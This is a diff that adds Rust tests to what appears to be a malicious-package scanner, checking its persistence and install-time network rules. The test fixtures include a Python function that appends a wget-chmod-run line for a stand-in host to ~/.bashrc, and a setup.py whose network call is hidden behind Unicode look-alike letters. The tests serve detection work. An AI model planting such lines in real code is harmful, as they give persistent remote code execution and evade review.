@@ -179,3 +179,36 @@ fn a_lookup_whose_answer_is_kept_is_no_beacon() {
     let r = setup_py("import socket\nfrom setuptools import setup\nhost = 'mirror.acme.example.com'\nip = socket.gethostbyname(host)\nsetup()\n");
     none(&r, "access/exfil-flow");
 }
+
+// ---------------------------------------------------------------- shell start-up files
+
+#[test]
+fn a_download_and_run_command_appended_to_bashrc_is_high_in_any_function() {
+    let r = module(
+        "import os\ndef reset():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('wget https://x.example.net/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n",
+    );
+    assert_eq!(hits(&r, "access/persistence", MOD), [(3, High)]);
+}
+
+#[test]
+fn a_completion_line_appended_to_bashrc_in_a_function_is_medium() {
+    let r = module(
+        "import os\ndef enable():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('eval \"$(register-python-argcomplete acme)\"')\n",
+    );
+    assert_eq!(hits(&r, "access/persistence", MOD), [(3, Severity::Medium)]);
+}
+
+// ---------------------------------------------------------------- look-alike letters
+
+#[test]
+fn names_spelled_in_math_letters_are_read_as_python_reads_them() {
+    let r = setup_py("𝗶𝗺𝗽𝗼𝗿𝘁 𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀\nfrom setuptools import setup\n𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀.get('https://x.example.net/i')\nsetup()\n");
+    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(3, High)]);
+}
+
+#[test]
+fn accented_names_and_text_are_left_alone() {
+    let r = setup_py("from setuptools import setup\nrésumé = 'naïve ｓｅｔｕｐ'\nsetup(description=résumé)\n");
+    none(&r, "access/network-on-install");
+    none(&r, "access/process-on-install");
+}
